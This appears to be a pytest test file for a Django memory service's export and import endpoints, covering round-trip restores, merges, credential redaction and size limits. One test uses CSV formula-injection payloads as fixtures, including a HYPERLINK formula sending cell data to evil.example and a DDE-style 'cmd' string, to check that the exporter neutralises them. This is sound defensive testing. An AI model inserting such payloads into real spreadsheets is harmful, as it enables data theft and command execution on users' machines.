"""GET /memory/mind-export (and /mind/export), POST /memory/mind-import: a full backup that
restores exactly into an empty mind and merges into a non-empty one."""

import csv
import io
import json
from datetime import timedelta
from io import StringIO

import pytest
from django.core.management import call_command
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.utils import timezone

from memories import export
from memories.models import AuditEvent, Memory, MemoryVersion
from memories.recall import REDACTED
from minds.services import key_issue, mind_create, mind_delete, mind_update
from tests.conftest import jwt_client, key_client

pytestmark = pytest.mark.django_db


@pytest.fixture
def rich_mind(alice_mind, agent, human, remember):
    """A mind with versions, tags, expiry, provenance, credentials, trash and a purge."""
    on = f"?mind={alice_mind.id}"
    human.post(f"/memory{on}", {"category": "identity", "key": "user_name",
                                "content": "Alice Liddell", "priority": "critical",
                                "tags": ["person"]}, format="json")
    remember(category="preference", key="editor", content="Vim", tags=["tools"])
    remember(category="preference", key="editor", content="Helix", tags=["tools", "modal"],
             confidence=0.4)
    remember(category="project", key="launch", content="Ship in June",
             expires_at=timezone.now() + timedelta(days=20))
    agent.post("/memory", {"category": "credentials", "key": "db_password",
                           "content": "hunter2"}, format="json")
    trashed = remember(category="note", key="scratch", content="Delete me")
    agent.delete(f"/memory/{trashed.id}")
    purged = remember(category="note", key="ancient", content="Long gone")
    agent.delete(f"/memory/{purged.id}")
    long_ago = timezone.now() - timedelta(days=90)
    Memory.objects.filter(pk=purged.id).update(deleted_at=long_ago, updated_at=long_ago)
    call_command("purge_trash", stdout=StringIO())
    # A superseded pair, as compaction leaves it.
    old = remember(category="fact", key="office_old", content="Office in Berlin")
    summary = remember(category="fact", key="office", content="Office in Berlin, then Bonn")
    Memory.objects.filter(pk=old.id).update(superseded_at=timezone.now(),
                                            superseded_by=summary)
    return alice_mind


def export_document(client, mind, **params) -> dict:
    query = "&".join([f"mind={mind.id}", *(f"{k}={v}" for k, v in params.items())])
    response = client.get(f"/memory/mind-export?{query}")
    assert response.status_code == 200
    assert response.streaming
    return json.loads(b"".join(response.streaming_content))


def claimed_history(version: dict) -> dict:
    """A version as history tells it: who wrote it, as first recorded (a restore records
    the importer in ``recorded_by`` and keeps the exported author as ``claimed_actor``)."""
    kept = {k: v for k, v in version.items()
            if k not in ("actor", "recorded_by", "claimed_actor", "claimed_source")}
    return {**kept, "author": version["claimed_actor"] or version["actor"],
            "source": version["claimed_source"] or version["source"]}


def comparable(document: dict) -> dict:
    """Everything that must survive a round trip; ids replaced by what they point at."""
    names = {m["id"]: (m["category"], m["key"], m["deleted_at"]) for m in document["memories"]}
    memories = sorted(({**m, "id": names[m["id"]],
                        "superseded_by": names.get(m["superseded_by"]),
                        "versions": [claimed_history(v) for v in m["versions"]]}
                       for m in document["memories"]), key=lambda m: m["id"])
    tombstones = sorted(({k: v for k, v in t.items() if k != "id"}
                         for t in document["tombstones"]), key=lambda t: t["key"])
    return {"memories": memories, "tombstones": tombstones,
            "credentials": document["credentials"]}


def test_round_trip_into_another_empty_mind_keeps_every_field(rich_mind, human, alice):
    original = export_document(human, rich_mind, include_credentials="true")
    assert len(original["memories"]) == 7 and len(original["tombstones"]) == 1
    copy = mind_create(owner=alice, name="Restored")
    response = human.post(f"/memory/mind-import?mind={copy.id}", original, format="json")
    assert response.status_code == 200, response.json()
    assert response.json() | {"ids_reassigned": 0} == {
        "mode": "restore", "memories": 7, "versions": 8, "tombstones": 1,
        "skipped_redacted": 0, "ids_reassigned": 0}
    restored = export_document(human, copy, include_credentials="true")
    assert comparable(restored) == comparable(original)
    assert {m["id"] for m in restored["memories"]}.isdisjoint(
        {m["id"] for m in original["memories"]})
    restored_versions = [v for m in restored["memories"] for v in m["versions"]]
    assert {(v["recorded_by"]["type"], v["recorded_by"]["id"]) for v in restored_versions} == {
        ("user", str(alice.pk))}


def test_restore_keeps_ids_when_they_are_free(rich_mind, human, alice):
    original = export_document(human, rich_mind, include_credentials="true")
    mind_delete(mind=rich_mind)
    copy = mind_create(owner=alice, name="Restored")
    assert human.post(f"/memory/mind-import?mind={copy.id}", original,
                      format="json").json()["ids_reassigned"] == 0
    restored = export_document(human, copy, include_credentials="true")
    for document in (original, restored):
        document.pop("exported_at"), document.pop("mind")
        for memory in document["memories"]:
            memory["versions"] = [claimed_history(v) for v in memory["versions"]]
    assert restored == original


def test_export_carries_the_minds_settings_and_import_leaves_the_target_minds_alone(
        alice_mind, human, alice, remember):
    remember(key="haeuser", content="Die alten Häuser am Fluss.")
    mind_update(mind=alice_mind, search_language="german", unverified_in_recall="hidden")
    document = export_document(human, alice_mind)
    assert {k: v for k, v in document["mind"].items() if k != "created_at"} == {
        "id": alice_mind.id, "name": "Alice's Mind", "unverified_in_recall": "hidden",
        "search_language": "german"}
    # An import restores memories, not settings: the target mind keeps its own.
    copy = mind_create(owner=alice, name="Restored", search_language="french")
    assert human.post(f"/memory/mind-import?mind={copy.id}", document,
                      format="json").status_code == 200
    copy.refresh_from_db()
    assert (copy.search_language, copy.unverified_in_recall) == ("french", "marked")


def test_restored_credentials_are_encrypted_at_rest_and_readable(rich_mind, human, alice):
    original = export_document(human, rich_mind, include_credentials="true")
    copy = mind_create(owner=alice, name="Restored")
    human.post(f"/memory/mind-import?mind={copy.id}", original, format="json")
    stored = Memory.objects.for_mind(copy).get(key="db_password")
    assert "hunter2" not in stored.content
    assert stored.plaintext_content() == "hunter2"
    assert "hunter2" not in MemoryVersion.objects.get(memory=stored).content


def test_agent_export_redacts_credentials_and_cannot_ask_for_them(rich_mind, agent):
    response = agent.get("/memory/mind-export")
    body = b"".join(response.streaming_content).decode()
    assert "hunter2" not in body
    document = json.loads(body)
    assert document["credentials"] == "redacted"
    secret = next(m for m in document["memories"] if m["key"] == "db_password")
    assert (secret["content"], secret["content_redacted"]) == (REDACTED, True)
    assert agent.get("/memory/mind-export?include_credentials=true").status_code == 403


def test_importing_a_redacted_export_skips_the_credentials(rich_mind, agent, human, alice):
    document = json.loads(b"".join(agent.get("/memory/mind-export").streaming_content))
    copy = mind_create(owner=alice, name="Restored")
    body = human.post(f"/memory/mind-import?mind={copy.id}", document, format="json").json()
    assert (body["memories"], body["skipped_redacted"]) == (6, 1)
    assert not Memory.objects.for_mind(copy).filter(category="credentials").exists()


def test_agent_import_makes_nothing_verified(rich_mind, human, bob, bob_mind):
    document = export_document(human, rich_mind)
    bob_key = key_issue(mind=bob_mind, name="bob agent", created_by=bob)[1]
    response = key_client(bob_key).post("/memory/mind-import", document, format="json")
    assert response.status_code == 200
    assert not Memory.objects.for_mind(bob_mind).filter(verified=True).exists()
    assert not Memory.objects.for_mind(bob_mind).filter(source="user").exists()


def test_import_into_a_non_empty_mind_merges_with_the_sync_rules(rich_mind, human, bob,
                                                                  bob_mind):
    document = export_document(human, rich_mind)
    bob_human = jwt_client(bob)
    on = f"?mind={bob_mind.id}"
    bob_human.post(f"/memory{on}", {"category": "preference", "key": "editor",
                                    "content": "Emacs, chosen later"}, format="json")
    bob_human.post(f"/memory{on}", {"category": "fact", "key": "bobs_own",
                                    "content": "Stays"}, format="json")
    response = bob_human.post(f"/memory/mind-import{on}", document, format="json")
    body = response.json()
    assert (body["mode"], body["stale"]) == ("merge", 1)
    keys = {m.key: m.content for m in Memory.objects.for_mind(bob_mind).current()}
    assert keys["editor"] == "Emacs, chosen later"
    assert keys["bobs_own"] == "Stays"
    assert keys["user_name"] == "Alice Liddell"
    assert "scratch" not in keys and "ancient" not in keys


def test_import_is_one_audit_event(rich_mind, human, alice):
    document = export_document(human, rich_mind)
    copy = mind_create(owner=alice, name="Restored")
    human.post(f"/memory/mind-import?mind={copy.id}", document, format="json")
    events = AuditEvent.objects.filter(mind=copy)
    assert [e.action for e in events] == ["import"]
    assert events[0].details["mode"] == "restore"


@pytest.mark.parametrize("mutate, field", [
    (lambda d: d.update(format="something else"), "export.format"),
    (lambda d: d.update(format_version=2), "export.format_version"),
    (lambda d: d.update(memories="all"), "export.memories"),
    (lambda d: d["memories"][1].update(category="gossip"), "memories[1].category"),
    (lambda d: d["memories"][0].pop("updated_at"), "memories[0].updated_at"),
    (lambda d: d["memories"][0].update(confidence=7), "memories[0].confidence"),
    (lambda d: d["memories"][0]["versions"][0].update(created_at="soon"),
     "memories[0].versions[0].created_at"),
    (lambda d: d["tombstones"][0].update(id="not-an-id"), "tombstones[0].id"),
])
def test_malformed_import_is_400_naming_the_field_and_writes_nothing(rich_mind, human, alice,
                                                                     mutate, field):
    document = export_document(human, rich_mind)
    mutate(document)
    copy = mind_create(owner=alice, name="Restored")
    response = human.post(f"/memory/mind-import?mind={copy.id}", document, format="json")
    assert response.status_code == 400
    assert field in response.json()["error"]["fields"]
    assert not Memory.objects.for_mind(copy).exists()


def test_import_with_two_live_memories_of_one_key_is_400_and_writes_nothing(rich_mind, human,
                                                                            alice):
    document = export_document(human, rich_mind)
    twin = dict(document["memories"][0], id="mem_twin0000000000000000")
    document["memories"].append(twin)
    copy = mind_create(owner=alice, name="Restored")
    response = human.post(f"/memory/mind-import?mind={copy.id}", document, format="json")
    assert response.status_code == 400
    assert not Memory.objects.for_mind(copy).exists()
    assert not AuditEvent.objects.filter(mind=copy).exists()


def test_export_streams_in_chunks_that_join_into_valid_json(agent, remember, monkeypatch):
    monkeypatch.setattr(export, "CHUNK_SIZE", 3)
    for i in range(10):
        remember(key=f"k{i}", content=f"Memory {i}")
    response = agent.get("/memory/mind-export")
    pieces = list(response.streaming_content)
    assert len(pieces) > 5
    assert len(json.loads(b"".join(pieces))["memories"]) == 10


def test_export_queries_do_not_grow_with_the_number_of_memories(agent, remember):
    def queries() -> int:
        with CaptureQueriesContext(connection) as context:
            b"".join(agent.get("/memory/mind-export").streaming_content)
        return len(context)

    remember(key="first", content="Memory")
    queries()  # the first request of a key also records when it was last used
    few = queries()
    for i in range(30):
        remember(key=f"k{i}", content=f"Memory {i}")
    assert queries() == few


def test_csv_export_lists_current_memories(rich_mind, agent):
    response = agent.get("/mind/export?format=csv")
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    assert "attachment" in response["Content-Disposition"]
    rows = list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))
    assert sorted(row["key"] for row in rows) == [
        "db_password", "editor", "launch", "office", "user_name"]
    editor = next(row for row in rows if row["key"] == "editor")
    assert (editor["content"], editor["tags"], editor["version"]) == ("Helix", "tools, modal",
                                                                     "2")
    assert next(row for row in rows if row["key"] == "db_password")["content"] == REDACTED


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_csv_cells_that_start_like_a_formula_are_neutralised(agent, alice_mind, remember,
                                                             start):
    formula = f'{start}HYPERLINK("https://evil.example/?"&A1,"click")'
    remember(category="note", key=f"{start}cmd|' /C calc'!A0", content=formula,
             tags=[f"{start}sum(a1:a9)"])
    remember(category="note", key="plain", content="Harmless - but with a dash")
    response = agent.get("/memory/mind-export?format=csv")
    rows = list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))
    evil = next(row for row in rows if row["key"] != "plain")
    assert evil["content"] == "'" + formula
    assert evil["key"] == f"'{start}cmd|' /C calc'!A0"
    # Tags are stored trimmed: a tab or carriage return never starts one.
    assert evil["tags"] == (f"'{start}sum(a1:a9)" if start.strip() else "sum(a1:a9)")
    plain = next(row for row in rows if row["key"] == "plain")
    assert plain["content"] == "Harmless - but with a dash"
    # No cell of the file starts like a formula any more.
    assert not [cell for row in rows for cell in row.values()
                if cell.startswith(export.FORMULA_PREFIXES)]
    # The JSON export (the backup) keeps the text as stored.
    document = export_document(agent, alice_mind)
    assert formula in [item["content"] for item in document["memories"]]


def test_export_of_another_mind_is_404(rich_mind, bob):
    response = jwt_client(bob).get(f"/memory/mind-export?mind={rich_mind.id}")
    assert response.status_code == 404


@pytest.mark.parametrize("query", ["format=xml", "format=json&compress=yes"])
def test_export_with_bad_parameters_is_400(agent, query):
    assert agent.get(f"/memory/mind-export?{query}").status_code == 400


def _document_of(count: int, size: int) -> dict:
    return {"format": "synapse.mind-export", "format_version": 1, "tombstones": [],
            "memories": [{"id": f"mem_large{i:015d}", "category": "note", "key": f"k{i}",
                          "content": "x" * size, "tags": [], "priority": "normal",
                          "source": "user", "verified": True, "confidence": 1.0,
                          "version": 1, "created_at": "2026-01-01T00:00:00Z",
                          "updated_at": "2026-01-01T00:00:00Z", "versions": []}
                         for i in range(count)]}


def test_import_takes_bodies_beyond_the_everyday_limit(human, alice, settings):
    document = _document_of(120, 49_000)
    assert len(json.dumps(document)) > settings.MAX_BODY_BYTES
    copy = mind_create(owner=alice, name="Large")
    response = human.post(f"/memory/mind-import?mind={copy.id}", document, format="json")
    assert response.status_code == 200
    assert Memory.objects.for_mind(copy).count() == 120


def test_import_beyond_the_import_limit_is_413(human, alice, settings):
    settings.IMPORT_MAX_BODY_BYTES = 10_000
    copy = mind_create(owner=alice, name="Too large")
    response = human.post(f"/memory/mind-import?mind={copy.id}", _document_of(3, 5000),
                          format="json")
    assert response.status_code == 413
    assert not Memory.objects.for_mind(copy).exists()


@pytest.mark.parametrize("path", ["/memory/mind-import", "/memory/sync"])
def test_a_body_that_is_not_json_is_400(agent, path):
    response = agent.post(path, b'{"memories": [', content_type="application/json")
    assert response.status_code == 400
    assert response.json()["error"]["code"] == "parse_error"


# -- Reading an import as it arrives (memories.staging, synapse.parsers) ---------------------

@pytest.fixture
def batch_of_one(monkeypatch):
    """Stage and apply one item at a time; record the size of every Memory bulk insert."""
    from memories import staging

    monkeypatch.setattr(staging, "BATCH_SIZE", 1)
    sizes = []
    bulk_create = Memory.objects.bulk_create
    monkeypatch.setattr(Memory.objects, "bulk_create",
                        lambda rows, **kw: (sizes.append(len(rows)), bulk_create(rows, **kw))[1])
    return sizes


def test_restore_is_applied_in_batches_and_keeps_every_field(rich_mind, human, alice,
                                                             batch_of_one):
    original = export_document(human, rich_mind, include_credentials="true")
    copy = mind_create(owner=alice, name="Restored")
    response = human.post(f"/memory/mind-import?mind={copy.id}", original, format="json")
    assert response.status_code == 200, response.json()
    assert batch_of_one == [1] * 7
    # Every id was taken (the original is still here) and reassigned, batch by batch; the
    # superseded memory still points at its summary.
    assert response.json()["ids_reassigned"] == 8
    assert comparable(export_document(human, copy, include_credentials="true")) == \
        comparable(original)


def test_merge_is_applied_in_batches_with_the_sync_rules(rich_mind, human, bob, bob_mind,
                                                         monkeypatch):
    from memories import staging
    from memories.services import transfer

    monkeypatch.setattr(staging, "BATCH_SIZE", 2)
    batches = []
    apply_changes = transfer._apply_changes
    monkeypatch.setattr(transfer, "_apply_changes", lambda **kw: (
        batches.append(len(kw["changes"])), apply_changes(**kw))[1])
    document = export_document(human, rich_mind)
    bob_human = jwt_client(bob)
    on = f"?mind={bob_mind.id}"
    bob_human.post(f"/memory{on}", {"category": "preference", "key": "editor",
                                    "content": "Emacs, chosen later"}, format="json")
    body = bob_human.post(f"/memory/mind-import{on}", document, format="json").json()
    assert (body["mode"], body["stale"]) == ("merge", 1)
    assert batches == [2, 2, 2, 2]  # 7 memories and 1 tombstone
    keys = {m.key: m.content for m in Memory.objects.for_mind(bob_mind).current()}
    assert keys["editor"] == "Emacs, chosen later"
    assert keys["user_name"] == "Alice Liddell"


def test_import_broken_off_half_way_is_400_and_writes_nothing(human, alice, batch_of_one):
    text = json.dumps(_document_of(6, 100))
    copy = mind_create(owner=alice, name="Broken")
    cut = text[:text.index('"k5"')]  # five whole memories, then the body ends
    response = human.post(f"/memory/mind-import?mind={copy.id}", cut,
                          content_type="application/json")
    assert response.status_code == 400
    assert response.json()["error"]["code"] == "parse_error"
    assert not Memory.objects.for_mind(copy).exists()
    assert not AuditEvent.objects.filter(mind=copy).exists()


def test_import_with_a_wrong_format_at_the_end_writes_nothing(human, alice):
    document = _document_of(3, 100)
    text = json.dumps({"memories": document["memories"], "format": "something else"})
    copy = mind_create(owner=alice, name="Not an export")
    response = human.post(f"/memory/mind-import?mind={copy.id}", text,
                          content_type="application/json")
    assert response.status_code == 400
    assert "export.format" in response.json()["error"]["fields"]
    assert not Memory.objects.for_mind(copy).exists()


def test_import_with_one_id_twice_in_different_batches_is_400(human, alice, batch_of_one):
    document = _document_of(3, 100)
    document["memories"][2]["id"] = document["memories"][0]["id"]
    copy = mind_create(owner=alice, name="Twins")
    response = human.post(f"/memory/mind-import?mind={copy.id}", document, format="json")
    assert response.status_code == 400
    assert "memories" in response.json()["error"]["fields"]
    assert not Memory.objects.for_mind(copy).exists()


def test_import_skips_members_it_does_not_read_without_building_them(human, alice):
    document = _document_of(2, 100)
    text = json.dumps(document)[:-1] + ', "extra": ' + "[" * 10_000 + "]" * 10_000 + "}"
    copy = mind_create(owner=alice, name="Extra")
    response = human.post(f"/memory/mind-import?mind={copy.id}", text,
                          content_type="application/json")
    assert response.status_code == 200, response.json()
    assert Memory.objects.for_mind(copy).count() == 2
